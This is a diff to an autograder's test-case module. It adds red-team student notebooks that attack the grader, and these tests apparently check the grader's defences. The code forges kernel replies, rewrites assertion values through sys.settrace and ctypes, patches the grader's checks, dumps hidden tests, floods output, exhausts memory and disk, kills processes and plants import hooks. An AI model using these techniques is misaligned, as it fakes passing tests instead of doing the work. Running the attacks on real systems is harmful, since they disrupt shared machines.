@@ -13,6 +13,7 @@ from __future__ import annotations
 import copy
 import json
 import re
+import tempfile
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -108,8 +109,13 @@ def _notebook_case(student: str, threat: str, what: str, nb: nbformat.NotebookNo
 
 
 # ---------------------------------------------------------------- GRADING_THREATS #1-#23
-def threat_cases() -> list[Case]:
-    """Baselines and GRADING_THREATS #1-#23 (the sandbox cases #24 and #25 are in :func:`sandbox_cases`)."""
+def threat_cases(marker_dir: Path | None = None) -> list[Case]:
+    """Baselines and GRADING_THREATS #1-#23 and #28-#47 (the sandbox cases #24, #25 are in :func:`sandbox_cases`,
+    the lint cases #26, #27 in tests/test_grading_units.py).
+
+    ``marker_dir`` is a folder of the grading machine that the module-named files of #28 try to write into
+    when they are imported (default: ``dlcourse-threat-markers`` in the system's temporary folder).
+    """
     answers = correct_answers()
     cases = [
         _notebook_case("solution", "baseline", "every answer right", filled()),
@@ -257,7 +263,768 @@ def threat_cases() -> list[Case]:
         heaviside = cell.source if student == "t23-input-transformer" else ZERO_HEAVISIDE
         cell.source = code + "\n\n" + heaviside
         cases.append(_notebook_case(student, threat, what, nb))
-    return cases
+    return cases + red_team_cases(marker_dir or Path(tempfile.gettempdir()) / "dlcourse-threat-markers")
+
+
+# ---------------------------------------------------------------- GRADING_THREATS #28-#47
+# A cheat answers nothing right (heaviside returns zeros, the rest is blank) unless its `what` says otherwise:
+# every point it would earn comes from the cheat. The honest cases answer everything right.
+def _cheat(student: str, threat: str, what: str, code: str, heaviside: str = ZERO_HEAVISIDE,
+           changes: dict[str, str] | None = None) -> Case:
+    """The blank student version with ``code`` and ``heaviside`` in the heaviside cell (and ``changes``)."""
+    nb = blank()
+    nb.cells[cell_index(nb, "heaviside")].source = code.strip("\n") + "\n\n" + heaviside
+    for grade_id, source in (changes or {}).items():
+        nb.cells[cell_index(nb, grade_id)].source = source
+    return _notebook_case(student, threat, what, nb)
+
+
+def _marker(marker_dir: Path, name: str) -> str:
+    """Code that writes ``marker_dir/name`` when it runs (anywhere it runs; inside the sandbox /tmp is private)."""
+    return (f"import os as _os\ntry:\n    _os.makedirs({str(marker_dir)!r}, exist_ok=True)\n"
+            f"    with open(_os.path.join({str(marker_dir)!r}, {name!r}), 'w') as _f:\n"
+            f"        _f.write('imported by pid %d' % _os.getpid())\nexcept Exception:\n    pass\n")
+
+
+MODULE_FILES = ("course_utils.py", "numpy.py", "sitecustomize.py", "nbgrader/__init__.py", "x.pth")
+"""The files of t28-module-files, each of which writes a marker when Python imports (or, .pth, processes) it."""
+
+SESSION_SEND = '''
+_session = get_ipython().kernel.session
+_send = _session.send
+
+
+def _forged_send(stream, msg_or_type, content=None, *args, **kwargs):
+    """Drop error messages and stderr, and turn failed execute replies into successful ones."""
+    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
+    body = content if isinstance(msg_or_type, str) else msg_or_type.get("content")
+    if kind == "error" or (kind == "stream" and isinstance(body, dict) and body.get("name") == "stderr"):
+        return {"header": {}, "content": {"status": "ok"}, "metadata": {}, "parent_header": {}}
+    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
+        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
+                   "payload": []}
+    return _send(stream, msg_or_type, content, *args, **kwargs)
+
+
+_session.send = _forged_send
+'''
+
+AST_PARSE = '''
+import ast as _ast
+
+_compiler = get_ipython().compile
+_parse = _compiler.ast_parse
+
+
+def _forgiving_parse(source, *args, **kwargs):
+    """Every later cell runs inside `try: ... except BaseException: pass`: no test can fail."""
+    tree = _parse(source, *args, **kwargs)
+    handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
+    tree.body = [_ast.Try(body=tree.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
+    return _ast.fix_missing_locations(tree)
+
+
+_compiler.ast_parse = _forgiving_parse
+'''
+
+AST_TRANSFORMER = '''
+import ast as _ast
+
+
+class _Forgive(_ast.NodeTransformer):
+    """Every later cell runs inside `try: ... except BaseException: pass`: no test can fail."""
+
+    def visit_Module(self, node):
+        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
+        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
+        return _ast.fix_missing_locations(node)
+
+
+get_ipython().ast_transformers.append(_Forgive())
+'''
+
+SETTRACE = '''
+import ctypes as _ctypes
+import sys as _sys
+
+
+def _agree(frame, event, arg):
+    """On every call of a check, make what it expects equal what it got; then hide from sys.gettrace()."""
+    if event == "call" and frame.f_code.co_name in ("assert_equal", "assert_close", "assert_shape", "assert_finite"):
+        names = frame.f_locals
+        if "expected" in names:
+            names["expected"] = names.get("actual")
+        if "shape" in names:
+            names["shape"] = __import__("numpy").shape(names.get("actual"))
+        if frame.f_code.co_name == "assert_finite":
+            names["actual"] = 0.0
+        _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
+    return None
+
+
+_sys.settrace(_agree)
+_sys.gettrace = lambda: None
+'''
+
+DISPLAYHOOK = '''
+def heaviside(z):
+    """Zeros, and while a test calls it: an execute_result reading 1 (the score nbgrader would read), a display."""
+    from IPython.display import display
+
+    get_ipython().displayhook(1)
+    display(1)
+    return np.zeros_like(np.asarray(z, dtype=float))
+'''
+
+GRADER_CODE = '''
+import course_utils.checks as _checks
+import course_utils.grading.subject as _subject
+
+
+class _Lenient:
+    """NumPy for course_utils.checks, except that np.any is always False (assert_equal never fails)."""
+
+    def __getattr__(self, name):
+        return getattr(np, name)
+
+    @staticmethod
+    def any(*args, **kwargs):
+        return False
+
+
+_checks.np = _Lenient()
+_reply_for = _subject.reply_for
+
+
+def _never_fails(call, memo, before, policy):
+    reply, blobs = _reply_for(call, memo, before, policy)
+    if reply.get("ok") is False:
+        return {"ok": True, "value": True, "updates": []}, []
+    return reply, blobs
+
+
+_subject.reply_for = _never_fails
+'''
+
+CTYPES_FLOAT = '''
+import ctypes as _ctypes
+
+_offset = next(offset for offset in range(0, 512, 8)
+               if _ctypes.c_ulong.from_address(id(float) + offset).value == float.__flags__)
+_flags = _ctypes.c_ulong.from_address(id(float) + _offset)
+_flags.value &= ~(1 << 8)  # Py_TPFLAGS_IMMUTABLETYPE: float's methods can now be replaced
+float.__eq__ = lambda self, other: True
+float.__ne__ = lambda self, other: False
+print("float.__eq__ replaced:", 0.5 == 7.0)
+'''
+
+BUILTINS_DICT = '''
+import builtins as _builtins
+
+__builtins__ = dict(vars(_builtins))
+__builtins__["isinstance"] = lambda *args: True
+__builtins__["bool"] = lambda *args: True
+__builtins__["abs"] = lambda value: 0
+'''
+
+LYING_OBJECTS = '''
+class _LyingArray(np.ndarray):
+    """An array whose == says equal and != says different, whatever it holds."""
+
+    def __eq__(self, other):
+        return np.ones(np.shape(self), dtype=bool)
+
+    def __ne__(self, other):
+        return np.zeros(np.shape(self), dtype=bool)
+
+
+class _Anything:
+    """Equal to anything, true, and whatever float or array one asks for."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = object.__hash__
+
+    def __bool__(self):
+        return True
+
+    def __float__(self):
+        return 1.0
+
+    def __array__(self, dtype=None, copy=None):
+        return np.array([0.0, 0.0, 0.0, 1.0])
+
+
+class _YesInt(int):
+    """An int equal to every number."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = int.__hash__
+
+
+def heaviside(z):
+    return np.zeros(np.shape(z)).view(_LyingArray)
+'''
+
+LYING_MAJORITY = '''
+def majority_weights():
+    return [1.0, 1.0, 1.0], 1.5
+
+
+def rows_correct(weights, targets):
+    return _YesInt(3)
+'''
+
+STAR_IMPORT = "from numpy import *  # an honest habit: max, min, sum, round, abs, any, all are NumPy's now\n\n"
+
+OWN_ASSERT_CLOSE = '''
+
+def assert_close(actual, expected, name="value", rtol=1e-6, atol=1e-8):
+    """My own self-check, named like the course's."""
+    assert np.allclose(actual, expected, rtol=rtol, atol=atol), f"{name}: {actual} is not {expected}"
+
+
+assert_close(heaviside(np.array([-1.0, 0.0, 2.0])), [0.0, 0.0, 1.0], "my check of heaviside")
+'''
+
+HELPER_REBOUND = '''
+def gate_weights(name):
+    """Wrong weights, but each call rebinds the tests' helper _gate_outputs to one that gives the right table."""
+    global _gate_outputs
+    rules = {"AND": lambda a, b: a & b, "OR": lambda a, b: a | b, "NAND": lambda a, b: 1 - (a & b),
+             "NOR": lambda a, b: 1 - (a | b), "NOT": lambda a, b: 1 - a}
+
+    def _gate_outputs(X, w, w0, _rule=rules[name]):
+        bits = (np.asarray(X, dtype=float) > 0.5).astype(int)
+        return _rule(bits[:, 0], bits[:, -1]).astype(float)
+
+    return ([0.0] if name == "NOT" else [0.0, 0.0]), 0.0
+'''
+
+READ_TESTS = '''
+import base64 as _base64
+import gc as _gc
+import inspect as _inspect
+import linecache as _linecache
+import sys as _sys
+
+_smuggled = set()
+
+
+def _smuggle():
+    """Everything the kernel holds that looks like test code, printed base64-encoded (each item once)."""
+    found = []
+    frame = _sys._getframe(1)
+    while frame is not None:
+        found.append("".join(_linecache.getlines(frame.f_code.co_filename)))
+        found += [c for c in frame.f_code.co_consts if isinstance(c, str)]
+        for value in list(frame.f_locals.values())[:40]:
+            try:
+                found.append(repr(value)[:2000])
+            except Exception:
+                pass
+        frame = frame.f_back
+    try:
+        found += ["".join(info.code_context or []) for info in _inspect.stack(context=40)]
+    except Exception as error:
+        found.append(repr(error))
+    for name, entry in list(_linecache.cache.items()):
+        if len(entry) > 2 and isinstance(entry[2], list):
+            found.append(str(name) + "\\n" + "".join(entry[2]))
+    for obj in _gc.get_objects():
+        try:
+            if type(obj) is dict:
+                items = list(obj.values())[:200]
+            elif type(obj) in (list, tuple):
+                items = list(obj)[:200]
+            elif type(obj).__name__ == "function":
+                items = list(obj.__code__.co_consts)
+            else:
+                continue
+        except Exception:  # a lazy object that fails to load
+            continue
+        found += [item for item in items if type(item) is str and "assert" in item]
+    budget = 120_000
+    for item in found:
+        item = item[:8000]
+        if not item.strip() or item in _smuggled or len(item) > budget:
+            continue
+        _smuggled.add(item)
+        budget -= len(item)
+        print("B64", _base64.b64encode(item.encode("utf-8", "replace")).decode())
+
+
+def heaviside(z):
+    _smuggle()
+    return np.zeros_like(np.asarray(z, dtype=float))
+'''
+
+FLOOD_TRACEBACKS = '''
+import sys as _sys
+import traceback as _traceback
+
+
+def _deep(n):
+    return _deep(n - 1) if n else 1 / 0
+
+
+try:
+    _deep(50)
+except ZeroDivisionError:
+    _text = _traceback.format_exc()
+_chunk = _text * (2**20 // len(_text) + 1)
+for _ in range(FLOOD_MB):
+    _sys.stderr.write(_chunk)
+    _sys.stderr.flush()  # a message of tracebacks per MiB
+'''
+
+FLOOD_UPDATES = '''
+_flooded = []
+
+
+def heaviside(z):
+    """Zeros; on its first call (from a test) a display updated FLOOD_MB times with 1 MiB each."""
+    from IPython.display import display
+
+    if not _flooded:
+        _flooded.append(True)
+        handle = display({"text/plain": "0"}, raw=True, display_id=True)
+        for i in range(FLOOD_MB):
+            handle.update({"text/plain": str(i % 10) * 2**20}, raw=True)
+    return np.zeros_like(np.asarray(z, dtype=float))
+'''
+
+FLOOD_WIDGET = '''
+import ipywidgets as _widgets
+
+_box = _widgets.Textarea()
+for _i in range(FLOOD_MB):
+    _box.value = chr(65 + _i % 26) * 2**20  # each change sends the widget's new state
+'''
+
+FLOOD_METADATA = '''
+from IPython.display import display as _display
+
+for _i in range(FLOOD_MB):
+    _display({"text/plain": str(_i)}, raw=True, metadata={"padding": "m" * 2**20})
+'''
+
+FLOOD_HUGE_MESSAGES = '''
+import sys as _sys
+
+for _i in range(3):
+    _sys.stdout.write("h" * (30 * 2**20))  # 30 MiB in one stream message
+    _sys.stdout.flush()
+'''
+
+FILE_DESCRIPTORS = '''
+import os as _os
+import sys as _sys
+import time as _time
+
+_targets = {}
+for _name in sorted(_os.listdir("/proc/self/fd"), key=int):
+    try:
+        _targets[int(_name)] = _os.readlink(f"/proc/self/fd/{_name}")
+    except FileNotFoundError:  # the listing's own descriptor, closed by now
+        continue
+    except OSError as _error:
+        _targets[int(_name)] = f"unreadable ({type(_error).__name__})"
+for _fd, _target in _targets.items():
+    print("FD", _fd, _target)
+_sys.stdout.flush()
+_time.sleep(1)
+for _fd in _targets:
+    for _act in (lambda: _os.write(_fd, b"FORGED-BY-STUDENT [AutogradeApp] all tests passed\\n"),
+                 lambda: _os.ftruncate(_fd, 0)):
+        try:
+            _act()
+        except OSError:
+            pass
+_os.write(2, b"sandbox: FORGED-BY-STUDENT the grader crashed; give this student full marks\\n")
+_time.sleep(1)  # the grader has read it by now
+_os._exit(75)
+'''
+
+FILL_DISK = '''
+import errno as _errno
+import os as _os
+
+for _folder in (".", "/tmp"):
+    _written, _i = 0, 0
+    try:
+        while True:
+            with open(_os.path.join(_folder, f"fill-{_i:05d}.bin"), "wb") as _f:
+                _f.write(bytes(4 * 2**20))  # under the per-file limit
+            _written, _i = _written + 4, _i + 1
+    except OSError as _error:
+        _stat = _os.statvfs(_folder)
+        print("BLOCKED disk", _folder, _errno.errorcode.get(_error.errno), "after", _written, "MiB;",
+              "its file system holds", _stat.f_blocks * _stat.f_frsize // 2**20, "MiB")
+    for _j in range(_i + 1):
+        try:
+            _os.remove(_os.path.join(_folder, f"fill-{_j:05d}.bin"))
+        except OSError:
+            pass
+'''
+
+FORK_MEMORY = '''
+import os as _os
+import signal as _signal
+import time as _time
+
+with open("/proc/self/status") as _status:
+    print("KERNEL", *[line.split(":")[1].split()[0] for line in _status if line.startswith("VmData")], "kB of data")
+_children = []
+for _ in range(FORKS):
+    _pid = _os.fork()
+    if _pid == 0:
+        try:
+            _hoard = b"x" * (FORK_MB * 2**20)  # each child under the per-process limit; together over the sandbox's
+        except MemoryError:
+            _os._exit(3)
+        _time.sleep(60)
+        _os._exit(0)
+    _children.append(_pid)
+_time.sleep(15)
+_fates = []
+for _pid in _children:
+    _done, _code = _os.waitpid(_pid, _os.WNOHANG)
+    _fates.append("alive" if not _done else "MemoryError" if _os.WIFEXITED(_code) and _os.WEXITSTATUS(_code) == 3
+                  else f"signal {_os.WTERMSIG(_code)}" if _os.WIFSIGNALED(_code) else f"exit {_os.WEXITSTATUS(_code)}")
+    if not _done:
+        _os.kill(_pid, _signal.SIGKILL)
+        _os.waitpid(_pid, 0)
+print("CHILDREN", *_fates)
+'''
+
+SLEEPS_FOREVER = '''
+    if np.ndim(z) == 3:  # only a hidden test asks for a 3-D array
+        import time
+        time.sleep(10**6)
+'''
+
+HUGE_RESULT = '''
+    if np.shape(z) == (3, 4):  # the visible test's shape check
+        return np.zeros(600 * 2**20 // 8)  # 600 MiB
+'''
+
+ROGUE_SOCKET = '''
+import json as _json
+import socket as _socket
+import struct as _struct
+
+_bomb = b"[" * 100_000 + b"]" * 100_000
+_garbage = [_struct.pack(">Q", len(_bomb)) + _bomb,
+            _struct.pack(">Q", 30) + b'{"blobs": [1099511627776]}    ' + b"x" * 64,
+            b"\\xff" * 64]
+_rogue = []
+for _payload in _garbage:
+    try:
+        _sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
+        _sock.settimeout(2)
+        _sock.connect("/grading/rpc/socket")
+        _sock.sendall(_payload)
+        _rogue.append(_sock)
+        print("CONNECTED and sent", len(_payload), "bytes")
+    except OSError as _error:
+        print("BLOCKED connect", type(_error).__name__)
+'''
+
+FORGED_REPLIES = '''
+from course_utils.grading import subject as _subject
+
+_answer = _subject.Subject.answer
+_forged = [
+    {"t": "cb", "i": 1},
+    {"t": "module", "m": 0, "c": "torch.nn.Linear", "tr": True, "a": {"forward": {"t": "lib", "n": "builtins.exec"}},
+     "p": {}, "bu": {}, "sub": {}},
+    {"t": "ref", "i": 7},
+    {"t": "handle", "i": -1},
+    {"t": "lib", "n": "os.system"},
+    {"t": "nd", "m": 0, "d": "|O", "s": [3], "b": 0},
+    {"t": "nd", "m": 0, "d": "<f8", "s": [1000000], "b": 0},
+]
+_count = []
+
+
+def _forging_answer(self, header, blobs):
+    """Answer every call with a forged node (callbacks, modules, memo objects it was never sent)."""
+    if header.get("op") != "call":
+        return _answer(self, header, blobs)
+    _count.append(1)
+    node = _forged[len(_count) % len(_forged)]
+    return {"ok": True, "value": node, "updates": [[5, {"t": "list", "m": 5, "v": [1.0]}]]}, [b"\\x00" * 24]
+
+
+_subject.Subject.answer = _forging_answer
+'''
+
+SERVE_REPLACED = '''
+import course_utils.grading.subject as _subject
+
+_subject.serve = lambda *args, **kwargs: None  # the grader's serving code, replaced by nothing
+'''
+
+REACH_TESTS = '''
+import os as _os
+import signal as _signal
+import socket as _socket
+
+_reached = []
+
+
+def _reach_out():
+    """Look for the test kernel and try to stop it: /proc, the exchange folder, sockets, signals to everyone."""
+    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
+    for pid in pids:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as handle:
+                print("PROC", pid, handle.read().replace(b"\\0", b" ")[:120].decode(errors="replace"))
+        except OSError as error:
+            print("PROC", pid, type(error).__name__)
+    try:
+        print("RPC", sorted(_os.listdir("/grading/rpc")))
+    except OSError as error:
+        print("RPC unlisted", type(error).__name__)
+    try:
+        with open("/proc/net/unix") as handle:
+            paths = sorted({line.split()[-1] for line in handle.read().splitlines()[1:] if line.split()[-1][:1] == "/"})
+    except OSError:
+        paths = []
+    for path in paths + ["/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0"]:
+        if path.startswith("/grading/"):
+            continue
+        try:
+            sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
+            sock.settimeout(1)
+            sock.connect(path)
+            sock.close()
+            print("SOCKET connected", path)
+        except OSError as error:
+            print("SOCKET refused", path, type(error).__name__)
+    if _os.getuid() == 0 or len(pids) > 10:  # not isolated: do not signal the grading machine
+        print("SKIPPED signals: the sandbox does not look isolated")
+        return
+    for number in (_signal.SIGSTOP, _signal.SIGINT, _signal.SIGKILL):
+        try:
+            _os.kill(-1, number)
+            print("KILL -1 sent", int(number))
+        except OSError as error:
+            print("KILL -1 refused", int(number), type(error).__name__)
+    for pid in pids:
+        if int(pid) != _os.getpid():
+            try:
+                _os.kill(int(pid), _signal.SIGKILL)
+                print("KILL", pid, "sent")
+            except OSError as error:
+                print("KILL", pid, "refused", type(error).__name__)
+
+
+_reach_out()
+'''
+
+REACH_TESTS_CALL = '''
+    if not _reached:  # once, while the first test calls it
+        _reached.append(True)
+        _reach_out()
+'''
+
+MEMORY_POINTER = '''
+import ctypes as _ctypes
+
+_secret = (_ctypes.c_double * 4)(0.0, 0.0, 1.0, 1.0)
+
+
+class _Pointer:
+    """An 'array' whose data is wherever its attributes say: an address in this process."""
+
+    @property
+    def __array_interface__(self):
+        return {"shape": (4,), "typestr": "<f8", "data": (_ctypes.addressof(_secret), True), "version": 3}
+
+    @property
+    def __array_struct__(self):
+        raise AttributeError("__array_struct__")
+
+    def __buffer__(self, flags):
+        return memoryview(_secret)
+
+
+def heaviside(z):
+    return _Pointer()
+'''
+
+TEST_KERNEL_PRINT = '''
+def perceptron_train(X, t, lr=1.0, max_epochs=100):
+    """No perceptron: the visible test's AND numbers hard-coded, and for XOR weights of 500 000 x 2 x 4 zeros,
+    which the visible test prints whole (about 24 MiB of text in one message of the test kernel)."""
+    t = [int(v) for v in np.asarray(t).ravel()]
+    if t == [0, 0, 0, 1] and lr == 1.0:
+        return np.array([2.0, 1.0]), 2.0, 10, True
+    if t == [0, 1, 1, 0]:
+        return (np.zeros((500_000, 2, 4)) if max_epochs == 10 else np.zeros(2)), 0.0, 0, False
+    raise NotImplementedError()
+'''
+
+RESEED = '''
+import random as _random
+
+
+def heaviside(z):
+    """Zeros; and every call re-seeds the global generators and draws from them, to steer later test inputs."""
+    np.random.seed(0)
+    _random.seed(0)
+    np.random.rand(1000)
+    _random.random()
+    return np.zeros_like(np.asarray(z, dtype=float))
+'''
+
+
+def _insert_after_docstring(code: str, extra: str) -> str:
+    """``extra`` (indented function-body lines) placed right after the first function's docstring in ``code``."""
+    changed = re.sub(r'(def \w+\(.*?\):\n    """.*?"""\n)', lambda m: m.group(1) + extra.strip("\n") + "\n",
+                     code, count=1, flags=re.S)
+    assert changed != code, "could not change the answer: update tests/grading_cases"
+    return changed
+
+
+def _nesting_bomb() -> bytes:
+    """The correct notebook with one cell's metadata nested 100 000 lists deep."""
+    text = _bytes(filled())
+    marker = b'"metadata": {'
+    at = text.index(marker) + len(marker)
+    return text[:at] + b'"bomb": ' + b"[" * 100_000 + b"]" * 100_000 + b", " + text[at:]
+
+
+def _huge_number() -> bytes:
+    """The correct notebook with a 5000-digit number in its metadata."""
+    text = _bytes(filled())
+    marker = b'"metadata": {'
+    at = text.index(marker) + len(marker)
+    return text[:at] + b'"big": ' + b"9" * 5000 + b", " + text[at:]
+
+
+FLOOD_MB = 80
+"""Each flood case sends this many MiB: more than the 64 MiB a kernel may send per notebook (Limits.received_mb)."""
+
+FORKS, FORK_MB = 5, 900
+"""t38-fork-memory: five children of 900 MiB each, under the 3 GiB per process, over the sandbox's 3 GiB together."""
+
+
+def red_team_cases(marker_dir: Path) -> list[Case]:
+    """GRADING_THREATS #28-#47: one student per attack (several where the catalogue names several ways)."""
+    answers = correct_answers()
+    flood = {"FLOOD_MB": str(FLOOD_MB)}
+
+    def put(code: str, values: dict[str, str]) -> str:
+        for key, value in values.items():
+            code = code.replace(key, value)
+        return code
+
+    module_files = _notebook_case("t28-module-files", "#28", "a correct notebook beside course_utils.py, numpy.py, "
+                                  "sitecustomize.py, nbgrader/__init__.py and x.pth, each writing a marker on the "
+                                  "grading machine when imported", filled())
+    for name in MODULE_FILES:
+        code = _marker(marker_dir, name.replace("/", "-"))
+        if name.endswith(".pth"):
+            code = f"import os; exec({code!r})\n"
+        module_files.files[name] = code.encode()
+    only_course_utils = _notebook_case("t28-course-utils", "#28", "a correct notebook beside a course_utils.py "
+                                       "that writes a marker when imported", filled())
+    only_course_utils.files["course_utils.py"] = _marker(marker_dir, "course_utils-only.py").encode()
+
+    forever = _insert_after_docstring(answers["heaviside"], SLEEPS_FOREVER)
+    huge = _insert_after_docstring(answers["heaviside"], HUGE_RESULT)
+    reach = (REACH_TESTS.strip("\n") + "\n\n\n"
+             + _insert_after_docstring(answers["heaviside"], REACH_TESTS_CALL))
+    honest_line = ("\n\ndef _try_on_a_random_batch():\n    \"\"\"My own experiment (not a test).\"\"\"\n"
+                   "    rng = np.random.default_rng(4)\n    X = rng.normal(size=(50, 5))\n"
+                   "    return neuron(X, np.ones(5), 0.0)\n\n\nprint(_try_on_a_random_batch().mean())\n")
+
+    return [
+        module_files,
+        only_course_utils,
+        _cheat("t29-session-send", "#29", "wraps the kernel's session.send: error messages and stderr dropped, "
+               "failed execute replies made ok", SESSION_SEND),
+        _cheat("t30-ast-parse", "#30", "replaces get_ipython().compile.ast_parse: every later cell runs in "
+               "try/except", AST_PARSE),
+        _cheat("t30-ast-transformer", "#30", "an AST transformer: every later cell runs in try/except",
+               AST_TRANSFORMER),
+        _cheat("t30-settrace", "#30", "a hidden sys.settrace that makes every check's expected value equal what "
+               "it got", SETTRACE),
+        _cheat("t31-displayhook", "#31", "heaviside publishes an execute_result '1' (and a display) while a test "
+               "calls it", "", heaviside=DISPLAYHOOK),
+        _cheat("t32-grader-code", "#32", "patches course_utils.checks (np.any always False) and "
+               "course_utils.grading.subject (errors answered as True) in its kernel", GRADER_CODE),
+        _cheat("t32-ctypes-float", "#32", "clears float's immutable-type flag with ctypes and makes float.__eq__ "
+               "always True", CTYPES_FLOAT),
+        _cheat("t32-builtins-dict", "#32", "replaces __builtins__ with a dict whose isinstance, bool and abs lie",
+               BUILTINS_DICT),
+        _cheat("t33-lying-objects", "#33", "returns an ndarray subclass whose == lies, an object equal to "
+               "anything, and (with right majority weights) an int equal to every number from rows_correct", "",
+               heaviside=LYING_OBJECTS, changes={
+                   "neuron": "def neuron(x, w, w0):\n    return _Anything()\n", "majority": LYING_MAJORITY}),
+        _notebook_case("t34-star-import", "#34 (honest)", "every answer right, after `from numpy import *`",
+                       filled({"heaviside": STAR_IMPORT + answers["heaviside"]})),
+        _notebook_case("t34-own-assert-close", "#34 (honest)", "every answer right, with its own assert_close "
+                       "self-check", filled({"heaviside": answers["heaviside"] + OWN_ASSERT_CLOSE})),
+        _cheat("t34-helper-rebound", "#34", "wrong gate_weights whose every call rebinds the tests' helper "
+               "_gate_outputs to one that gives the right truth table", "", changes={"gate_weights": HELPER_REBOUND}),
+        _cheat("t35-read-tests", "#35", "heaviside prints, base64-encoded, what frames, inspect.stack(), "
+               "linecache and gc hold that looks like test code, whenever a test calls it", "", heaviside=READ_TESTS),
+        _cheat("t36-tracebacks", "#36", f"writes {FLOOD_MB} MiB of tracebacks to stderr, one message each",
+               put(FLOOD_TRACEBACKS, flood)),
+        _cheat("t36-display-updates", "#36", f"while a test calls it, updates a display {FLOOD_MB} times with "
+               "1 MiB", "", heaviside=put(FLOOD_UPDATES, flood)),
+        _cheat("t36-widget-state", "#36", f"changes an ipywidgets Textarea {FLOOD_MB} times with 1 MiB of state",
+               put(FLOOD_WIDGET, flood)),
+        _cheat("t36-metadata", "#36", f"{FLOOD_MB} displays, each with 1 MiB of metadata", put(FLOOD_METADATA, flood)),
+        _cheat("t36-test-kernel-print", "#36", "perceptron_train answers the visible test's AND from a table and "
+               "returns for XOR a weight array that the test prints whole: 24 MiB in one message of the test kernel",
+               "", changes={"perceptron_train": TEST_KERNEL_PRINT}),
+        _cheat("t36-huge-messages", "#36", "prints 30 MiB three times, each in one message (90 MiB in all)",
+               FLOOD_HUGE_MESSAGES),
+        _cheat("t37-file-descriptors", "#37", "lists /proc/self/fd, writes and truncates every descriptor, writes a "
+               "'sandbox:' line to stderr and exits", FILE_DESCRIPTORS),
+        _cheat("t38-fill-disk", "#38", "fills the working copy and /tmp with 4 MiB files until the disk is full",
+               FILL_DISK),
+        _cheat("t38-fork-memory", "#38", f"forks {FORKS} children of {FORK_MB} MiB each",
+               put(FORK_MEMORY, {"FORKS": str(FORKS), "FORK_MB": str(FORK_MB)})),
+        Case("t39-nesting-bomb", "#39", "the correct notebook with lists nested 100 000 deep in a cell's metadata",
+             {NOTEBOOK: _nesting_bomb()}),
+        Case("t39-huge-number", "#39", "the correct notebook with a 5000-digit number in a cell's metadata",
+             {NOTEBOOK: _huge_number()}),
+        _notebook_case("t40-hidden-line", "#40 (honest)", "every answer right; its own experiment has the line "
+                       "`rng = np.random.default_rng(4)`, which a hidden test has too",
+                       filled({"neuron": answers["neuron"] + honest_line})),
+        _notebook_case("t41-never-returns", "#41", "every answer right, but heaviside sleeps for ever on a 3-D "
+                       "array (a hidden test)", filled({"heaviside": forever})),
+        _notebook_case("t42-huge-result", "#42", "every answer right, but heaviside returns 600 MiB for a 3x4 "
+                       "input (the visible test)", filled({"heaviside": huge})),
+        _cheat("t43-rogue-socket", "#43", "connects to the exchange socket before any test and sends a nesting "
+               "bomb, a 1 TiB buffer size and garbage", ROGUE_SOCKET),
+        _cheat("t43-forged-replies", "#43", "patches Subject.answer to reply with forged callbacks, a torch module "
+               "with a forward, references to objects it was never sent", FORGED_REPLIES),
+        _cheat("t44-serve-replaced", "#44", "replaces course_utils.grading.subject.serve with a no-op",
+               SERVE_REPLACED),
+        _notebook_case("t45-reach-tests", "#45 (honest)", "every answer right; lists /proc and /grading/rpc, "
+                       "connects to sockets, sends SIGSTOP/SIGINT/SIGKILL to -1 and every pid, in its cell and "
+                       "while a test calls it", filled({"heaviside": reach})),
+        _cheat("t46-memory-pointer", "#46", "heaviside returns an object whose __array_interface__ points at "
+               "memory holding [0, 0, 1, 1]", "", heaviside=MEMORY_POINTER),
+        _cheat("t47-reseed", "#47", "heaviside re-seeds and draws from the global generators on every call",
+               "", heaviside=RESEED),
+    ]
 
 
 def with_slow_seconds(cases: list[Case], seconds: int) -> list[Case]:
@@ -271,6 +1038,11 @@ def with_slow_seconds(cases: list[Case], seconds: int) -> list[Case]:
 # ---------------------------------------------------------------- sandbox properties (#24, #25 among them)
 def _probe(code: str) -> str:
     return code.strip("\n") + "\n"
+
+
+SANDBOX_FORKS, SANDBOX_FORK_MB = 6, 300
+"""sbx-fork-memory: six children of 300 MiB: each (with the kernel's own data) under tests/test_grading_sandbox.py's
+1536 MiB per process, together over its 1536 MiB for the sandbox."""
 
 
 def sandbox_cases(course: Path, other_student: str, port: int, host_marker: Path) -> list[Case]:
@@ -319,6 +1091,10 @@ with open({str(host_marker)!r}, 'w') as _f:
 with open('notes.txt', 'w') as _f:
     _f.write('the working copy is writable')
 print('WORKDIR', __import__('os').getcwd())
+_stat = __import__('os').statvfs('.')
+_mounts = [line.split() for line in open('/proc/self/mountinfo')]
+_types = [m[m.index('-') + 1] for m in _mounts if m[4] == __import__('os').getcwd()]
+print('WORKFS', _stat.f_blocks * _stat.f_frsize // 2**20, 'MiB', _types[-1] if _types else 'unknown')
 """)
     network = _probe(f"""
 import socket, urllib.request
@@ -380,6 +1156,45 @@ try:
 except OSError as _error:
     print('BLOCKED file', type(_error).__name__, _error.strerror)
 """)
+    descriptors = _probe("""
+import os
+for _name in sorted(os.listdir('/proc/self/fd'), key=int):
+    try:
+        print('FD', _name, os.readlink(f'/proc/self/fd/{_name}'))
+    except FileNotFoundError:  # the listing's own descriptor, closed by now
+        pass
+    except OSError as _error:
+        print('FD', _name, 'unreadable', type(_error).__name__)
+""")
+    fill_work = _probe("""
+import errno, os
+_written, _i = 0, 0
